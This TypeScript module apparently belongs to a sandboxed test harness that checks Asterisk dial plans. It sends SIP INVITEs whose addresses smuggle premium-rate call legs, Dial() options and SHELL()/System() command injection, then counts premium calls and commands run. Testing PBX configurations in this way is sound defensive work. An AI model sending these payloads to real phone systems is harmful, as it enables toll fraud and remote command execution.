import { execOn } from "../../../sandbox/sandbox";
import { above, type Attack } from "./attack";
import { offer, type Order } from "./stranger";
import type { Target } from "./target";
import { askAs, askedOfCarrier, premium } from "./thief";

const mark = "/tmp/injected";

/** User parts of a request's address that a careless dial plan puts into Dial() or evaluates. */
function payloads({ accounts, trunk }: Target): string[] {
  const extension = accounts[1]?.number ?? "";
  return [
    ...["internal", "dial-national", "outbound", "default"].map(
      (context) => `${extension}&Local/${premium}@${context}`,
    ),
    ...["PJSIP", "SIP"].map((driver) => `${extension}&${driver}/${premium}@${trunk}`),
    `${extension}%26PJSIP%2f${premium}%40${trunk}`,
    ...["PJSIP", "SIP"].map((driver) => `${extension}&${driver}/${premium}`),
    `${extension}%40${trunk}&PJSIP/${premium}%40${trunk}`,
    `${extension},30,G(internal^${premium}^1)`,
    `${extension},System(touch%20${mark})`,
    `$%7BSHELL(touch%20${mark})%7D`,
    `${extension}$%7BSHELL(touch%20${mark})%7D`,
    `${extension}%00&PJSIP/${premium}@${trunk}`,
    // Two bare @ are no SIP address: escaped, they come to the dial plan as they are meant.
  ].map((payload) => payload.replaceAll("@", "%40"));
}

/** Dials addresses that are more than a number. */
export const dialplanInjection: Attack = {
  name: "dialplan-injection",
  what: "dials, with a phone's credentials, 15 addresses that carry a second destination, options or a function",
  measures: "premium calls at the carrier or commands run",
  goal: "0",
  weak: ["tutorial22", "tutorial16"],
  sample: true,
  run: async (target) => {
    const { address, accounts, sandbox, host } = target;
    const [thief] = accounts;
    if (thief === undefined) throw new Error("no account");
    const from = `<sip:${thief.user}@${address}>`;
    const orders: Order[] = payloads(target).map((payload) => ({
      ...{ method: "INVITE", uri: `sip:${payload}@${address}`, from, ...offer },
    }));
    const { result, numbers } = await askedOfCarrier(target, () => askAs(target, thief, orders));
    const commands = (await execOn(sandbox, host, ["rm", mark])).code === 0 ? 1 : 0;
    const answered = result.filter(({ status }) => status !== null).length;
    const calls = numbers.filter((number) => number === premium).length;
    return above(
      0,
      calls + commands,
      `${orders.length} dialled, ${answered} answered, ${numbers.length} at the carrier`,
    );
  },
};
